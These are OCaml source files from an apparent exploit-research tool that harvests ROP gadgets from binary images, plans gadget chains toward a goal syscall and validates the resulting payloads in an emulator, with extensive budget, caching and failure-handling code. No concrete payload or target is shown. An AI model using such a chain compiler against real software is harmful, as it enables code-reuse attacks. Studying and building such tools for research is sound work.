   counter); the main domain then renumbers the merged, deterministic
   ally ordered list with [fresh_id], reproducing exactly the sequence
   a sequential harvest would have assigned. *)
let fresh_id () =
  let id = !next_id in
  incr next_id;
  id

let classify (s : Gp_symx.Exec.summary) =
  if s.Gp_symx.Exec.s_syscall then Sys
  else
    match s.s_jump, s.s_has_cond, s.s_has_merge with
    | Gp_symx.Exec.Jind _, true, _ -> CIJ
    | _, true, _ -> CDJ
    | _, false, true -> UDJ
    | Gp_symx.Exec.Jret _, false, false -> Return
    | Gp_symx.Exec.Jind _, false, false -> UIJ
    | Gp_symx.Exec.Jfall _, false, false -> Sys

(* Build the gadget record for one summary.  Without [id], an id is
   drawn from the global sequence (the sequential harvest path); with
   it, the shared counter is left untouched (parallel workers pass a
   placeholder and the merge renumbers). *)
let of_summary ?id (s : Gp_symx.Exec.summary) : t =
  let st = s.Gp_symx.Exec.s_state in
  let post =
    List.map (fun r -> (r, Term.simplify (Gp_symx.State.reg st r))) Reg.all
  in
  let clobbered =
    List.filter_map
      (fun (r, t) -> if t = Gp_symx.State.reg_var r then None else Some r)
      post
  in
  let controlled =
    List.filter_map
      (fun (r, t) ->
        match t with
        | Term.Var name -> (
          match Gp_symx.State.slot_of_var name with
          | Some off -> Some (r, off)
          | None -> None)
        | _ -> None)
      post
  in
  let stack_delta =
    match Term.linearize (Gp_symx.State.reg st Reg.RSP) with
    | Some { Term.lin_const = c; lin_terms = [ (v, 1L) ] } when v = "rsp_0" ->
      Sdelta (Int64.to_int c)
    | Some { Term.lin_const = c; lin_terms = [ (v, 1L) ] } when v = "rbp_0" ->
      Spivot (Int64.to_int c)
    | _ -> Sunknown
  in
  let id = match id with Some i -> i | None -> fresh_id () in
  { id;
    addr = s.s_addr;
    len = List.length s.s_insns;
    insns = s.s_insns;
    kind = classify s;
    jmp = s.s_jump;
    clobbered;
    controlled;
    pre = List.rev st.Gp_symx.State.path;
    post;
    stack_delta;
    stack_writes = st.Gp_symx.State.stack_writes;
    consumed = Gp_symx.State.consumed_slots st;
    ptr_writes = st.Gp_symx.State.ptr_writes;
    mem_reads = st.Gp_symx.State.mem_reads;
    syscall_state =
      (* the state at the FIRST syscall executed (the list is built in
         reverse execution order) *)
      (match List.rev st.Gp_symx.State.syscalls with [] -> None | s :: _ -> Some s);
    has_cond = s.s_has_cond;
    has_merge = s.s_has_merge;
    alias_hazard = st.Gp_symx.State.alias_hazard }

let post_of g r = List.assoc r g.post

let to_string g =
  Printf.sprintf "0x%Lx [%s] %s" g.addr (kind_name g.kind)
    (String.concat "; " (List.map Insn.to_string g.insns))

let describe g =
  let buf = Buffer.create 128 in
  Buffer.add_string buf (to_string g);
  Buffer.add_string buf "\n  pre:  ";
  Buffer.add_string buf
    (String.concat " && " (List.map Formula.to_string g.pre));
  Buffer.add_string buf "\n  post: ";
  List.iter
    (fun (r, t) ->
      if List.mem r g.clobbered then
        Buffer.add_string buf
          (Printf.sprintf "%s=%s " (Reg.name r) (Term.to_string t)))
    g.post;
  Buffer.contents buf
