(* High-level Gadget-Planner API: the four-stage pipeline of Fig. 3.

     image --(1) gadget extraction--> gadgets
           --(2) subsumption testing--> minimal pool
           --(3) partial-order planning--> plans
           --(4) post-processing + validation--> payloads

   [run] executes all four stages and returns only chains whose payloads
   drive the emulator to the goal syscall (validation-first; DESIGN.md).

   Resilience (DESIGN.md "Failure model & budgets"): every stage
   boundary is Result-typed over the [Fail] taxonomy, faults inside a
   stage are quarantined per gadget and tallied into [stage_stats], a
   [Budget.t] bounds the whole run, and on a zero-chain result [run]
   retries down a degradation ladder with progressively looser
   configurations, recording each rung in the outcome. *)

type stage_stats = {
  extracted : int;
  deduped : int;
  pool_size : int;
  plans_found : int;
  chains_built : int;
  chains_validated : int;
  quarantined : (string * int) list;
      (* Fail.label -> count of items quarantined in stages 1-2 *)
  solver_unknowns : int;
      (* solver Unknown verdicts attributable to this run *)
  validate_faults : int;
      (* candidate chains whose payload crashed the machine *)
  validate_timeouts : int;
      (* candidate chains that ran out of emulator fuel — NOT crashes *)
  budget_hits : string list;
      (* stages whose budget ran dry ("extract", "subsume", "plan") *)
  cache_hits : int;
  cache_misses : int;
      (* solver memo traffic (check + prove_equal + pool-keyed stores)
         during this run — hit rate is a property of cache temperature,
         never of verdicts, so it is reported but excluded from
         differential comparisons *)
  plan_expanded : int;
      (* planner nodes expanded (summed over portfolio roots) *)
  plan_peak_queue : int;
      (* high-water mark of the planner priority queue (max over roots) *)
  plan_inst_hits : int;
      (* instantiation-memo hits inside the planner *)
  plan_cand_hits : int;
      (* ranked-candidate-memo hits inside the planner *)
  plan_discarded : int;
      (* complete plans rejected by the accept gate (duplicate chain,
         unbuildable payload, failed validation) *)
  screen_refuted : int;
      (* Tier A: prove_equal probes refuted by disjoint abstract values *)
  screen_decided : int;
      (* Tier A: check/entails queries decided abstractly *)
  concrete_refuted : int;
      (* Tier B: queries refuted by the fixed adversarial valuations *)
  elim_reused : int;
      (* Tier C: checks that reused memoized elimination-prefix steps.
         The three screen tallies above count per query answered and are
         job-count-invariant (same discipline as solver_unknowns);
         elim_reused, like the cache counters, depends on cache
         temperature and is excluded from differential comparisons *)
  summary_hits : int;
  summary_misses : int;
      (* content-addressed summary store traffic during the harvest
         (DESIGN.md §11).  Like the solver-memo counters, temperature-
         dependent — excluded from differential comparisons *)
  suffix_hits : int;
  suffix_misses : int;
      (* suffix-summary memo/store traffic during the harvest
         (DESIGN.md §16) — temperature-dependent, same discipline as
         the summary counters *)
  fp_hits : int;
  fp_misses : int;
      (* fingerprint store traffic (DESIGN.md §17) — temperature-
         dependent like the summary/suffix splits, excluded from
         differential comparisons *)
  fp_refuted : int;
      (* solver probes refuted from fingerprints alone (subsumption
         pair skips + planner instantiation refutations).  Counts per
         probe answered, so it is jobs- AND temperature-invariant —
         but zero with --no-fp, so differentials exclude it like the
         screen tallies *)
  substitutions : int;
      (* suffix entries built by Exec.extend (substitution) rather
         than monolithic re-execution *)
  decode_saved : int;
      (* repeat decodes absorbed by the decode-once extraction memo *)
  store_loaded : int;
      (* entries imported from the on-disk store (0 when cold) *)
  store_stale : int;
      (* 1 when a store file was found but rejected (corrupt/stale) and
         the run was demoted to cold *)
  wal_replayed : int;
      (* entries recovered from the store's write-ahead journal *)
  wal_truncated : int;
      (* bytes dropped from a torn journal tail (crash mid-append) *)
  retries : int;
      (* supervised retry attempts consumed (filled by the corpus
         runner; 0 for a bare Api.run) *)
  cells_resumed : int;
      (* sweep cells replayed from a checkpoint manifest instead of
         recomputed (filled by the corpus runner) *)
  extract_time : float;
  subsume_time : float;
  plan_time : float;
  validate_time : float;
      (* seconds spent inside Payload.validate_run — part of plan_time
         (validation runs inside the search's accept gate), broken out
         so stage 4 is observable on its own *)
}

(* Screening-tier counters as a 4-tuple delta-friendly snapshot. *)
let screen_counters () = Gp_smt.Solver.screen_stats ()

let screen_delta (a0, b0, c0, d0) (a1, b1, c1, d1) =
  (a1 - a0, b1 - b0, c1 - c0, d1 - d0)

let screen_add (a0, b0, c0, d0) (a1, b1, c1, d1) =
  (a0 + a1, b0 + b1, c0 + c1, d0 + d1)

(* Fingerprint counters (DESIGN.md §17) as a (store hits, store
   misses, probes refuted) snapshot, same delta discipline as the
   screen tuple. *)
let fp_counters () =
  let h, m = Incr.fp_store_stats () in
  (h, m, Gp_smt.Fpeval.refutations ())

let fp_delta (a0, b0, c0) (a1, b1, c1) = (a1 - a0, b1 - b0, c1 - c0)
let fp_add (a0, b0, c0) (a1, b1, c1) = (a0 + a1, b0 + b1, c0 + c1)

(* Combined solver-memo counters, snapshotted around stages. *)
let cache_counters () =
  ( Gp_smt.Cache.hits Gp_smt.Solver.memo
    + Gp_smt.Cache.hits Gp_smt.Solver.equal_memo
    + Gp_smt.Cache.hits Gp_smt.Solver.pool_memo,
    Gp_smt.Cache.misses Gp_smt.Solver.memo
    + Gp_smt.Cache.misses Gp_smt.Solver.equal_memo
    + Gp_smt.Cache.misses Gp_smt.Solver.pool_memo )

type analysis = {
  image : Gp_util.Image.t;
  gadgets : Gadget.t list;      (* post-subsumption *)
  pool : Pool.t;
  raw_extracted : int;
  extract_time : float;
  subsume_time : float;
  quarantined : (string * int) list;
  analysis_budget_hits : string list;
  analysis_unknowns : int;
  analysis_cache_hits : int;
  analysis_cache_misses : int;
  analysis_screen : int * int * int * int;
  analysis_fp : int * int * int;
  analysis_summary_hits : int;
  analysis_summary_misses : int;
  analysis_suffix_hits : int;
  analysis_suffix_misses : int;
  analysis_substitutions : int;
  analysis_decode_saved : int;
  analysis_store_loaded : int;
  analysis_store_stale : int;
  analysis_wal_replayed : int;
  analysis_wal_truncated : int;
}

let timed f =
  let t0 = Unix.gettimeofday () in
  let r = f () in
  (r, Unix.gettimeofday () -. t0)

(* Result-typed stage boundary: refuse to even start [f] when [budget]
   is already dry, converting exhaustion into the taxonomy.  Stages
   degrade internally past this point (harvest_r / minimize absorb
   their own sub-budget), so an [Error] here means the PIPELINE budget
   died between stages. *)
let stage (label : string) (budget : Budget.t) (f : unit -> 'a) :
    ('a, Fail.t) result =
  match Budget.guard budget f with
  | Ok v -> Ok v
  | Error Budget.Deadline -> Error (Fail.Budget_exhausted (label, `Time))
  | Error Budget.Fuel -> Error (Fail.Budget_exhausted (label, `Fuel))

let passthrough_stats gadgets =
  let n = List.length gadgets in
  { Subsume.input = n; after_dedup = n; after_subsume = n; timed_out = false }

(* ----- on-disk incremental store (DESIGN.md §11) ----- *)

(* Open the store before stage 1.  Every failure mode demotes to a cold
   run: [Rejected] (corrupt bytes, stale versions) is quarantined under
   the "store" label and counted in [store_stale], never raised. *)
let store_open = function
  | None -> (0, 0, 0, 0, [])
  | Some _ when Incr.journaling () ->
    (* a corpus-runner journal is open: [Incr.journal_open] already
       merged base + WAL, and re-reading the files mid-run would race
       our own writer.  The runner carries the open's WAL counters. *)
    (0, 0, 0, 0, [])
  | Some dir -> (
    match Incr.load ~dir with
    | Incr.Loaded li ->
      (* WAL-recovered entries count toward the warm start; a torn tail
         is quarantined (the work it held is simply recomputed) *)
      let quar =
        if li.Incr.li_wal_truncated > 0 then
          [ (Fail.label (Fail.Wal_torn ""), 1) ]
        else []
      in
      ( li.Incr.li_entries + li.Incr.li_wal_replayed,
        0,
        li.Incr.li_wal_replayed,
        li.Incr.li_wal_truncated,
        quar )
    | Incr.Absent -> (0, 0, 0, 0, [])
    | Incr.Rejected why ->
      (0, 1, 0, 0, [ (Fail.label (Fail.Store_rejected why), 1) ]))

(* Persist the store after the run.  A write failure costs only the
   warm start of the NEXT run, so it too is a quarantine entry. *)
let store_save quarantined = function
  | None -> quarantined
  | Some _ when Incr.journaling () ->
    (* journal checkpoints own durability; a per-cell whole-store save
       would just duplicate the WAL's contents *)
    quarantined
  | Some dir -> (
    match Incr.save ~dir with
    | Ok () -> quarantined
    | Error why when Incr.save_locked why ->
      (* another writer (a resident daemon) holds the dir: demote to
         read-only — this run's results stand, only the warm start of
         the next cold run is lost *)
      Fail.merge_counts quarantined
        [ (Fail.label (Fail.Store_locked why), 1) ]
    | Error why ->
      Fail.merge_counts quarantined
        [ (Fail.label (Fail.Store_rejected why), 1) ])

(* ----- per-stage continuations (DESIGN.md §14) -----

   The four stages are also exposed one at a time, each returning the
   explicit intermediate state the next one consumes, so a corpus
   scheduler (Sched) can interleave stages of DIFFERENT cells on one
   domain pool.  The monolithic entry points below ([analyze_raw],
   [run_with_analysis]) are compositions of these, so the sequential
   path and the staged path are the same code. *)

type extracted = {
  ex_image : Gp_util.Image.t;
  ex_harvested : Gadget.t list;
  ex_hstats : Extract.harvest_stats;
  ex_extract_time : float;
  ex_store_loaded : int;
  ex_store_stale : int;
  ex_wal_replayed : int;
  ex_wal_truncated : int;
  ex_store_quar : (string * int) list;
  ex_cache0 : int * int;
      (* solver-memo counter snapshot at stage-1 entry.  Global deltas:
         when stages of different cells interleave, another cell's
         traffic lands in them — which is why every temperature counter
         is excluded from the differential payload (DESIGN.md §14). *)
  ex_screen0 : int * int * int * int;
  ex_fp0 : int * int * int;
}

let stage_extract ?(extract_config = Extract.default_config) ?cache_dir
    ?budget ?(jobs = 1) ?ids (image : Gp_util.Image.t) : extracted =
  let root = match budget with Some b -> b | None -> Budget.unlimited () in
  let ex_cache0 = cache_counters () in
  let ex_screen0 = screen_counters () in
  let ex_fp0 = fp_counters () in
  let store_loaded, store_stale, wal_replayed, wal_truncated, store_quar =
    store_open cache_dir
  in
  let (harvested, hstats), extract_time =
    match
      stage "extract" root (fun () ->
          timed (fun () ->
              Extract.harvest_r ~config:extract_config
                ~budget:(Budget.sub root ~label:"extract" ~fraction:0.6 ())
                ~jobs ?ids image))
    with
    | Ok v -> v
    | Error f ->
      ( ( [],
          { Extract.h_starts = 0;
            h_quarantined = [ (Fail.label f, 1) ];
            h_budget_hit = true;
            h_summary_hits = 0;
            h_summary_misses = 0;
            h_suffix_hits = 0;
            h_suffix_misses = 0;
            h_substitutions = 0;
            h_decode_saved = 0 } ),
        0. )
  in
  { ex_image = image;
    ex_harvested = harvested;
    ex_hstats = hstats;
    ex_extract_time = extract_time;
    ex_store_loaded = store_loaded;
    ex_store_stale = store_stale;
    ex_wal_replayed = wal_replayed;
    ex_wal_truncated = wal_truncated;
    ex_store_quar = store_quar;
    ex_cache0;
    ex_screen0;
    ex_fp0 }

let stage_subsume ?(subsume = true) ?budget ?(jobs = 1) (ex : extracted) :
    analysis * Gadget.t list =
  let root = match budget with Some b -> b | None -> Budget.unlimited () in
  let harvested = ex.ex_harvested in
  let hstats = ex.ex_hstats in
  let u0 = Atomic.get Gp_smt.Solver.unknowns in
  let (minimal, sstats), subsume_time =
    match
      stage "subsume" root (fun () ->
          timed (fun () ->
              if subsume then
                Subsume.minimize
                  ~budget:(Budget.sub root ~label:"subsume" ())
                  ~jobs harvested
              else (harvested, passthrough_stats harvested)))
    with
    | Ok v -> v
    | Error _ ->
      ((harvested, { (passthrough_stats harvested) with timed_out = true }), 0.)
  in
  ( { image = ex.ex_image;
      gadgets = minimal;
      pool = Pool.build minimal;
      raw_extracted = List.length harvested;
      extract_time = ex.ex_extract_time;
      subsume_time;
      quarantined =
        Fail.merge_counts ex.ex_store_quar hstats.Extract.h_quarantined;
      analysis_budget_hits =
        (if hstats.Extract.h_budget_hit then [ "extract" ] else [])
        @ (if sstats.Subsume.timed_out then [ "subsume" ] else []);
      analysis_unknowns = Atomic.get Gp_smt.Solver.unknowns - u0;
      analysis_cache_hits = fst (cache_counters ()) - fst ex.ex_cache0;
      analysis_cache_misses = snd (cache_counters ()) - snd ex.ex_cache0;
      analysis_screen = screen_delta ex.ex_screen0 (screen_counters ());
      analysis_fp = fp_delta ex.ex_fp0 (fp_counters ());
      analysis_summary_hits = hstats.Extract.h_summary_hits;
      analysis_summary_misses = hstats.Extract.h_summary_misses;
      analysis_suffix_hits = hstats.Extract.h_suffix_hits;
      analysis_suffix_misses = hstats.Extract.h_suffix_misses;
      analysis_substitutions = hstats.Extract.h_substitutions;
      analysis_decode_saved = hstats.Extract.h_decode_saved;
      analysis_store_loaded = ex.ex_store_loaded;
      analysis_store_stale = ex.ex_store_stale;
      analysis_wal_replayed = ex.ex_wal_replayed;
      analysis_wal_truncated = ex.ex_wal_truncated },
    harvested )

(* Stages 1-2, shared by [analyze] and [run]: harvest (quarantining
   poisoned starts internally), then subsumption (which only ever
   shrinks the pool, so budget death or an error degrades to passing
   the harvest through untouched).  Also returns the RAW harvest, which
   the degradation ladder re-pools without subsumption. *)
let analyze_raw ~extract_config ~subsume ?cache_dir ~root ~jobs ?ids
    (image : Gp_util.Image.t) : analysis * Gadget.t list =
  let ex =
    stage_extract ~extract_config ?cache_dir ~budget:root ~jobs ?ids image
  in
  stage_subsume ~subsume ~budget:root ~jobs ex

let analyze ?(extract_config = Extract.default_config) ?(subsume = true)
    ?budget ?(jobs = 1) ?cache_dir ?ids (image : Gp_util.Image.t) : analysis =
  let root = match budget with Some b -> b | None -> Budget.unlimited () in
  let a, _ =
    analyze_raw ~extract_config ~subsume ?cache_dir ~root ~jobs ?ids image
  in
  { a with quarantined = store_save a.quarantined cache_dir }

(* ----- degradation ladder ----- *)

type rung = Full | Dedup_only | Wider_branch | Relaxed_steps

let rung_name = function
  | Full -> "full"
  | Dedup_only -> "dedup-only"
  | Wider_branch -> "wider-branch"
  | Relaxed_steps -> "relaxed-steps"

type outcome = {
  goal : Goal.concrete;
  chains : Payload.chain list;   (* validated only *)
  stats : stage_stats;
  rungs : rung list;             (* ladder rungs attempted, in order *)
}

(* Stage-3 output: everything stage 4 needs to merge, dedup, re-quota,
   and assemble the outcome — per-root chain lists still separate so
   the deterministic root-order merge happens in [stage_finalize]. *)
type planned = {
  pl_analysis : analysis;
  pl_goal : Goal.concrete;
  pl_config : Planner.config;
  pl_result : Planner.result;
  pl_chains_by_root : Payload.chain list array;  (* newest-first per root *)
  pl_vfaults : int;
  pl_vtimeouts : int;
  pl_vtime : float;
  pl_plan_time : float;
  pl_unknowns : int;                (* deltas over stages 3+4 *)
  pl_cache_hits : int;
  pl_cache_misses : int;
  pl_screen : int * int * int * int;
  pl_fp : int * int * int;
}

let stage_plan ?(planner_config = Planner.default_config)
    ?(validate = true) ?budget ?(jobs = 1) (a : analysis) (goal : Goal.t) :
    planned =
  let budget = match budget with Some b -> b | None -> Budget.unlimited () in
  let concrete = Goal.concretize a.image goal in
  let u0 = Atomic.get Gp_smt.Solver.unknowns in
  let ch0, cm0 = cache_counters () in
  let sc0 = screen_counters () in
  let fp0 = fp_counters () in
  (* Stages 3+4 run as a goal portfolio (Planner.search_par) at EVERY
     job count, so the result is job-count-independent by construction.
     Each portfolio root owns a result slot: accepted chains, fault and
     timeout tallies, validation seconds.  Workers only ever touch their
     own index, and the merge below is a pure fold in root order. *)
  let nroots =
    max 1
      (min planner_config.Planner.goal_cap
         (List.length a.pool.Pool.syscall_gadgets))
  in
  let chains_by_root = Array.make nroots [] in
  let vfaults = Array.make nroots 0 in
  let vtimeouts = Array.make nroots 0 in
  let vtime = Array.make nroots 0. in
  (* a completed plan only counts if its payload assembles, is a chain
     this root has not already emitted, and (when requested) survives
     end-to-end execution in the emulator.  Validation happens HERE,
     inside the worker — stage 4 rides the same domains as stage 3. *)
  let accept_for i =
    let seen = Hashtbl.create 16 in
    fun p ->
      match Payload.build_opt p concrete with
      | None -> false
      | Some c ->
        let k = Payload.chain_set_key c in
        if Hashtbl.mem seen k then false
        else begin
          Hashtbl.add seen k ();
          if not validate then begin
            chains_by_root.(i) <- c :: chains_by_root.(i);
            true
          end
          else begin
            let fuel = Budget.emu_fuel ~cap:1_000_000 budget in
            let t0 = Unix.gettimeofday () in
            let o = Payload.validate_run ~fuel a.image c in
            vtime.(i) <- vtime.(i) +. (Unix.gettimeofday () -. t0);
            match o with
            | o when Goal.satisfied concrete o ->
              chains_by_root.(i) <- c :: chains_by_root.(i);
              true
            | Gp_emu.Machine.Fault _ ->
              vfaults.(i) <- vfaults.(i) + 1;
              false
            | Gp_emu.Machine.Timeout ->
              (* budget starvation, not a broken chain; count it apart *)
              vtimeouts.(i) <- vtimeouts.(i) + 1;
              false
            | _ -> false
          end
        end
  in
  (* stage 3+4: portfolio search with validation inside each worker *)
  let result, plan_time =
    match
      stage "plan" budget (fun () ->
          timed (fun () ->
              Planner.search_par ~config:planner_config ~accept_for ~budget
                ~jobs a.pool concrete))
    with
    | Ok v -> v
    | Error _ ->
      ( { Planner.plans = []; expanded = 0; peak_queue = 0;
          inst_memo_hits = 0; cand_memo_hits = 0; discarded = 0;
          exhausted = false; budget_hit = true },
        0. )
  in
  let sum_i arr = Array.fold_left ( + ) 0 arr in
  { pl_analysis = a;
    pl_goal = concrete;
    pl_config = planner_config;
    pl_result = result;
    pl_chains_by_root = chains_by_root;
    pl_vfaults = sum_i vfaults;
    pl_vtimeouts = sum_i vtimeouts;
    pl_vtime = Array.fold_left ( +. ) 0. vtime;
    pl_plan_time = plan_time;
    pl_unknowns = Atomic.get Gp_smt.Solver.unknowns - u0;
    pl_cache_hits = fst (cache_counters ()) - ch0;
    pl_cache_misses = snd (cache_counters ()) - cm0;
    pl_screen = screen_delta sc0 (screen_counters ());
    pl_fp = fp_delta fp0 (fp_counters ()) }

(* Stage 4 proper: the deterministic post-processing that turns raw
   per-root search output into the final outcome.  Candidate VALIDATION
   already ran inside the stage-3 workers (the accept gate needs the
   verdicts; moving it would change results) — what remains here is the
   cross-root merge, global dedup, plan re-quota, and stats assembly.
   Pure: no solver, no emulator, no global counters. *)
let stage_finalize (p : planned) : outcome =
  let a = p.pl_analysis in
  let result = p.pl_result in
  (* Deterministic merge: concatenate per-root chains in root order,
     dedupe across roots by chain_set_key (each root already deduped
     locally), then re-apply the global plan quota. *)
  let built =
    List.concat_map List.rev (Array.to_list p.pl_chains_by_root)
  in
  let validated =
    let seen = Hashtbl.create 16 in
    List.filter
      (fun c ->
        let k = Payload.chain_set_key c in
        if Hashtbl.mem seen k then false
        else begin
          Hashtbl.add seen k ();
          true
        end)
      built
    |> List.filteri (fun i _ -> i < p.pl_config.Planner.max_plans)
  in
  let screen_refuted, screen_decided, concrete_refuted, elim_reused =
    screen_add a.analysis_screen p.pl_screen
  in
  let fp_hits, fp_misses, fp_refuted = fp_add a.analysis_fp p.pl_fp in
  { goal = p.pl_goal;
    chains = validated;
    rungs = [ Full ];
    stats =
      { extracted = a.raw_extracted;
        deduped = List.length a.gadgets;
        pool_size = Pool.size a.pool;
        plans_found = List.length result.Planner.plans;
        chains_built = List.length built;
        chains_validated = List.length validated;
        quarantined = a.quarantined;
        solver_unknowns = a.analysis_unknowns + p.pl_unknowns;
        validate_faults = p.pl_vfaults;
        validate_timeouts = p.pl_vtimeouts;
        budget_hits =
          a.analysis_budget_hits
          @ (if result.Planner.budget_hit then [ "plan" ] else []);
        cache_hits = a.analysis_cache_hits + p.pl_cache_hits;
        cache_misses = a.analysis_cache_misses + p.pl_cache_misses;
        plan_expanded = result.Planner.expanded;
        plan_peak_queue = result.Planner.peak_queue;
        plan_inst_hits = result.Planner.inst_memo_hits;
        plan_cand_hits = result.Planner.cand_memo_hits;
        plan_discarded = result.Planner.discarded;
        screen_refuted;
        screen_decided;
        concrete_refuted;
        elim_reused;
        summary_hits = a.analysis_summary_hits;
        summary_misses = a.analysis_summary_misses;
        suffix_hits = a.analysis_suffix_hits;
        suffix_misses = a.analysis_suffix_misses;
        fp_hits;
        fp_misses;
        fp_refuted;
        substitutions = a.analysis_substitutions;
        decode_saved = a.analysis_decode_saved;
        store_loaded = a.analysis_store_loaded;
        store_stale = a.analysis_store_stale;
        wal_replayed = a.analysis_wal_replayed;
        wal_truncated = a.analysis_wal_truncated;
        retries = 0;
        cells_resumed = 0;
        extract_time = a.extract_time;
        subsume_time = a.subsume_time;
        plan_time = p.pl_plan_time;
        validate_time = p.pl_vtime } }

let run_with_analysis ?planner_config ?validate ?budget ?jobs (a : analysis)
    (goal : Goal.t) : outcome =
  stage_finalize (stage_plan ?planner_config ?validate ?budget ?jobs a goal)

(* Loosen the planner config one rung at a time.  Degradation is
   cumulative: the last rung is also the widest. *)
let rung_planner_config (c : Planner.config) = function
  | Full | Dedup_only -> c
  | Wider_branch -> { c with Planner.branch_cap = c.Planner.branch_cap * 2 }
  | Relaxed_steps ->
    { c with
      Planner.branch_cap = c.Planner.branch_cap * 2;
      max_steps = c.Planner.max_steps + (c.Planner.max_steps / 2) }

(* Dedup without subsumption: the degraded stage-2.  Subsumption can
   (conservatively but legitimately) drop providers the planner turns
   out to need; the dedup-only pool restores them at the price of a
   bigger search space. *)
let dedup_only (gadgets : Gadget.t list) : Gadget.t list =
  let seen : (int64, Gadget.t list) Hashtbl.t = Hashtbl.create 1024 in
  List.filter
    (fun g ->
      let h = Subsume.semantic_hash g in
      let bucket = Option.value (Hashtbl.find_opt seen h) ~default:[] in
      if List.exists (fun g' -> Subsume.semantic_equal g' g) bucket then false
      else begin
        Hashtbl.replace seen h (g :: bucket);
        true
      end)
    gadgets

(* The Dedup_only rung's analysis: re-pool the raw harvest with exact
   duplicates removed — a superset of the subsumed pool.  Exposed so
   the daemon's staged ladder ([Gp_harness.Serve]) degrades exactly
   like [run]. *)
let dedup_analysis (a : analysis) (harvested : Gadget.t list) : analysis =
  let m = dedup_only harvested in
  { a with gadgets = m; pool = Pool.build m }

let run ?(extract_config = Extract.default_config)
    ?(planner_config = Planner.default_config) ?(validate = true) ?budget
    ?(jobs = 1) ?cache_dir ?ids (image : Gp_util.Image.t) (goal : Goal.t) :
    outcome =
  let root = match budget with Some b -> b | None -> Budget.unlimited () in
  (* Stages 1-2 run ONCE: the harvest is the expensive part and every
     rung shares it (the degraded rungs re-pool from the same gadget
     records, so gadget ids stay stable too). *)
  let a_full, harvested =
    analyze_raw ~extract_config ~subsume:true ?cache_dir ~root ~jobs ?ids image
  in
  (* Degraded stage 2: dedup the RAW harvest without subsumption — the
     Dedup_only rung's pool is a superset of the subsumed one. *)
  let a_degraded = lazy (dedup_analysis a_full harvested) in
  let tried = ref [] in
  let result : outcome option ref = ref None in
  List.iter
    (fun rung ->
      let proceed =
        match !result with
        | None -> true
        | Some o -> o.chains = [] && not (Budget.exhausted root)
      in
      if proceed then begin
        tried := rung :: !tried;
        let a = if rung = Full then a_full else Lazy.force a_degraded in
        (* each rung gets a slice of whatever time remains, so early
           rungs cannot starve later ones outright *)
        let rb = Budget.sub root ~label:(rung_name rung) ~fraction:0.6 () in
        let o =
          run_with_analysis
            ~planner_config:(rung_planner_config planner_config rung)
            ~validate ~budget:rb ~jobs a goal
        in
        result := Some o
      end)
    [ Full; Dedup_only; Wider_branch; Relaxed_steps ];
  match !result with
  | Some o ->
    (* Persist the store last, so planner/validation solver verdicts
       are captured alongside the harvest summaries. *)
    { o with
      rungs = List.rev !tried;
      stats =
        { o.stats with
          quarantined = store_save o.stats.quarantined cache_dir } }
  | None -> assert false
