(* Structured failure taxonomy for the pipeline (DESIGN.md "Failure
   model & budgets").

   Obfuscated binaries are exactly where analysis tooling hits
   pathological cases: undecodable byte windows, symbolic executor
   refusals, divergent solver queries, emulator faults.  A survey over
   hundreds of (program x obfuscation x goal) runs must treat these as
   DATA — quarantined and counted — never as process-killing exceptions.
   Every stage boundary in [Api] is typed over this module, and the
   per-stage fault ledgers end up in [Api.stage_stats]. *)

type t =
  | Decode_fault of int64 * string
      (* undecodable byte window at this address *)
  | Symx_unsupported of int64 * string
      (* the symbolic executor refused a run starting here *)
  | Solver_unknown of string
      (* an SMT query came back Unknown where a verdict was needed *)
  | Solver_timeout of string
      (* an SMT query exceeded its trial budget *)
  | Emu_fault of string
      (* concrete execution crashed (unmapped access, bad fetch, ...) *)
  | Budget_exhausted of string * [ `Time | `Fuel ]
      (* the named budget ran dry *)
  | Store_rejected of string
      (* an on-disk incremental store was unusable (corrupt/stale);
         the run proceeded cold *)
  | Store_locked of string
      (* another writer holds the cache dir's advisory lock; this run
         demoted to read-only instead of corrupting *)
  | Wal_torn of string
      (* the write-ahead journal ended in a torn tail (crash
         mid-append); the valid prefix was replayed, the tail dropped *)
  | Frame_fault of [ `Torn | `Checksum | `Disconnect ] * string
      (* a daemon wire frame was unusable: connection closed mid-frame,
         payload checksum/format mismatch, or the client vanished while
         the response was being written.  The request is quarantined and
         the connection dropped; resident caches are untouched *)

(* Short bucket name, used as the tally key so stats stay readable. *)
let label = function
  | Decode_fault _ -> "decode"
  | Symx_unsupported _ -> "symx"
  | Solver_unknown _ -> "solver-unknown"
  | Solver_timeout _ -> "solver-timeout"
  | Emu_fault _ -> "emu"
  | Budget_exhausted _ -> "budget"
  | Store_rejected _ -> "store"
  | Store_locked _ -> "store-locked"
  | Wal_torn _ -> "wal-torn"
  | Frame_fault (`Torn, _) -> "frame-torn"
  | Frame_fault (`Checksum, _) -> "frame-checksum"
  | Frame_fault (`Disconnect, _) -> "frame-disconnect"

let to_string = function
  | Decode_fault (addr, d) -> Printf.sprintf "decode fault at 0x%Lx: %s" addr d
  | Symx_unsupported (addr, d) ->
    Printf.sprintf "symbolic execution unsupported at 0x%Lx: %s" addr d
  | Solver_unknown d -> "solver unknown: " ^ d
  | Solver_timeout d -> "solver timeout: " ^ d
  | Emu_fault d -> "emulator fault: " ^ d
  | Budget_exhausted (l, `Time) -> Printf.sprintf "budget %s: deadline exhausted" l
  | Budget_exhausted (l, `Fuel) -> Printf.sprintf "budget %s: fuel exhausted" l
  | Store_rejected d -> "incremental store rejected: " ^ d
  | Store_locked d -> "store locked: " ^ d
  | Wal_torn d -> "wal torn tail: " ^ d
  | Frame_fault (`Torn, d) -> "torn wire frame: " ^ d
  | Frame_fault (`Checksum, d) -> "wire frame checksum: " ^ d
  | Frame_fault (`Disconnect, d) -> "client disconnected: " ^ d

(* ----- supervision ----- *)

(* Transient failures are worth retrying under the runner's backoff
   ladder: a timeout says "starved", not "impossible", and a larger or
   luckier attempt may land.  Everything else is a property of the
   input (undecodable bytes, refused run, unusable store) and retrying
   just burns budget. *)
let retryable = function
  | Solver_timeout _ | Budget_exhausted _ -> true
  | Decode_fault _ | Symx_unsupported _ | Solver_unknown _ | Emu_fault _
  | Store_rejected _ | Store_locked _ | Wal_torn _ | Frame_fault _ -> false

(* Process exit codes, BSD-sysexits-adjacent so supervisors can
   classify without parsing prose: 75 (tempfail) = transient timeout,
   70 (software) = hard analysis fault, 78 (config) = store problem,
   76 (protocol) = daemon wire-frame fault.  Cmdliner owns usage
   errors (124). *)
let exit_timeout = 75
let exit_fault = 70
let exit_store = 78
let exit_proto = 76

let exit_code f =
  match f with
  | Solver_timeout _ | Budget_exhausted _ -> exit_timeout
  | Decode_fault _ | Symx_unsupported _ | Solver_unknown _ | Emu_fault _ ->
    exit_fault
